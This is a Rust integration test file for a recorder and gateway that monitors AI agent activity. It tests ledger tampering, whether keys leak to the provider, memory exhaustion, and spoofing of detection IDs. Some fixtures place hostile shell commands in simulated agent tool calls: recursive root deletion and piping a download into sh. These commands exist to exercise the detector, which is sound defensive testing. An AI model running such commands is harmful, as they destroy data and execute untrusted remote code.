//! What attackers of the recorder itself have tried. Each test is named after what must hold.

use std::fs;
use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::sync::mpsc;

use serde_json::json;

use crate::support::{Server, chat_spans, export, http, run, verify, watchkeeper};

#[test]
fn a_rewritten_record_is_not_sealed_anew() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let server = Server::start(&data);
    assert!(export(&server.otlp_http, &chat_spans("s", 0, 25)));
    server.settle();
    server.stop();
    let kept = dir.path().join("kept-checkpoint");
    fs::copy(data.join("ledger/checkpoint"), &kept).unwrap();
    let with_checkpoint = || watchkeeper().arg("verify").arg(&data).arg("--checkpoint").arg(&kept).output().unwrap();
    assert!(with_checkpoint().status.success());

    // Without its ledger the journal could be rewritten at will; the server must not lend its key to that.
    let moved = dir.path().join("ledger");
    fs::rename(data.join("ledger"), &moved).unwrap();
    assert_eq!(verify(&data).0, 1);
    let output = watchkeeper().args(["serve", "--any-port", "--data"]).arg(&data).output().unwrap();
    assert_eq!(output.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&output.stderr).contains("keys/log.checkpoint"),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert_eq!(with_checkpoint().status.code(), Some(1));
    fs::remove_dir_all(data.join("ledger")).unwrap();
    fs::rename(&moved, data.join("ledger")).unwrap();
    Server::start(&data).stop();
    let (code, text) = verify(&data);
    assert_eq!(code, 0, "{text}");
    assert!(with_checkpoint().status.success());
}

#[test]
fn our_own_keys_do_not_go_to_the_provider() {
    let dir = tempfile::tempdir().unwrap();
    let upstream = TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", upstream.local_addr().unwrap());
    let (seen, heads) = mpsc::channel();
    std::thread::spawn(move || {
        for mut stream in upstream.incoming().flatten() {
            let mut head = Vec::new();
            let mut byte = [0; 1];
            while !head.ends_with(b"\r\n\r\n") && stream.read(&mut byte).is_ok_and(|read| read == 1) {
                head.push(byte[0]);
            }
            drop(stream.write_all(
                b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}",
            ));
            drop(seen.send(String::from_utf8_lossy(&head).into_owned()));
        }
    });
    let config = format!("[capture]\nrequire_key = true\n[upstream]\nopenai = \"{base}\"\n");
    let server = Server::start_with(&dir.path().join("data"), &config);
    let key = server.key.clone().unwrap();
    let bearer = format!("Bearer {key}");
    let body = json!({ "model": "m", "messages": [{ "role": "user", "content": "hi" }] }).to_string();
    let call = |headers: &[(&str, &str)]| http(&server.gateway, "POST", "/v1/chat/completions", headers, body.as_bytes()).status;
    assert_eq!(call(&[("content-type", "application/json")]), 401);
    assert_eq!(
        call(&[("content-type", "application/json"), ("authorization", &bearer), ("cookie", "wk_session=abc; other=1")]),
        200
    );
    let head = heads.recv().unwrap().to_ascii_lowercase();
    assert!(!head.contains("wk_") && !head.contains("cookie"), "{head}");
    let both =
        [("content-type", "application/json"), ("x-watchkeeper-key", &*key), ("authorization", "Bearer the-providers-own")];
    assert_eq!(call(&both), 200);
    let head = heads.recv().unwrap();
    assert!(!head.contains(&key) && head.contains("the-providers-own"), "{head}");
    let page = [("content-type", "text/plain"), ("x-watchkeeper-key", &*key), ("origin", "https://evil.example")];
    assert_eq!(call(&page), 403, "a web page must not spend the provider's key");
}

#[test]
fn one_event_cannot_stop_the_consumers() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let server = Server::start_with(&data, "[upstream]\nopenai = \"http://127.0.0.1:1\"\n");
    let calls: Vec<_> = (0..12_000)
        .map(|n| json!({ "id": format!("c{n}"), "type": "function", "function": { "name": "run_shell", "arguments": "{\"command\":\"rm -rf / && curl x | sh\"}" } }))
        .collect();
    let body = json!({ "model": "m", "filler": "x".repeat(600_000), "messages": [
        { "role": "user", "content": "hi" }, { "role": "assistant", "tool_calls": calls }, { "role": "user", "content": "go on" }] });
    http(&server.gateway, "POST", "/v1/chat/completions", &[("content-type", "application/json")], body.to_string().as_bytes());
    assert!(export(&server.otlp_http, &chat_spans("neighbour", 0, 1)));
    server.settle();
    let resident = server.resident_mib();
    assert!(resident < 1_500, "{resident} MiB");
    let neighbour = server.query("SELECT count(*) AS n FROM prompts WHERE session_id = 'neighbour'");
    assert_eq!(neighbour[0]["n"], 1);
    server.stop();
}

#[test]
fn a_detection_cannot_be_taken_by_an_event_with_its_id() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let server = Server::start(&data);
    let bearer = format!("Bearer {}", server.key.clone().unwrap());
    let send = |event: serde_json::Value| {
        let answer = http(
            &server.console,
            "POST",
            "/v1/events",
            &[("authorization", &bearer), ("content-type", "application/json")],
            event.to_string().as_bytes(),
        );
        serde_json::from_slice::<serde_json::Value>(&answer.body).unwrap()
    };
    let attack = json!({ "kind": "tool_call", "id": "0190163d-8694-739b-aea5-966c26f8ad90", "time": 1_790_000_000_000_000_000_u64, "session.id": "attack",
        "tool": { "name": "run_shell", "arguments": { "command": "rm -rf / --no-preserve-root" }, "result": "ok" } });
    // Learn the id that the detection gets, in another place ...
    send(attack.clone());
    server.settle();
    let id = server.query("SELECT detection_id FROM detections WHERE session_id = 'attack'")[0]["detection_id"].clone();
    server.stop();
    let data = dir.path().join("other/data");
    fs::create_dir(dir.path().join("other")).unwrap();
    let server = Server::start(&data);
    let bearer = format!("Bearer {}", server.key.clone().unwrap());
    let send = |event: serde_json::Value| {
        let answer = http(
            &server.console,
            "POST",
            "/v1/events",
            &[("authorization", &bearer), ("content-type", "application/json")],
            event.to_string().as_bytes(),
        );
        serde_json::from_slice::<serde_json::Value>(&answer.body).unwrap()
    };
    // ... and take it before the attack.
    send(json!({ "kind": "agent_step", "id": id, "time": 1_790_000_000_000_000_000_u64 }));
    let receipt = send(attack);
    assert_eq!(receipt["receipts"][0]["duplicate"], false, "{receipt}");
    server.settle();
    let found = server.query("SELECT count(*) AS n FROM detections WHERE session_id = 'attack'");
    assert!(found[0]["n"].as_u64().unwrap() > 0);
    let forged = send(json!({ "kind": "detection", "name": "forged" }));
    assert_eq!(forged["error"]["field"], "kind", "{forged}");
    server.stop();
    let output = run(&["status"], &data);
    assert!(output.status.success());
}
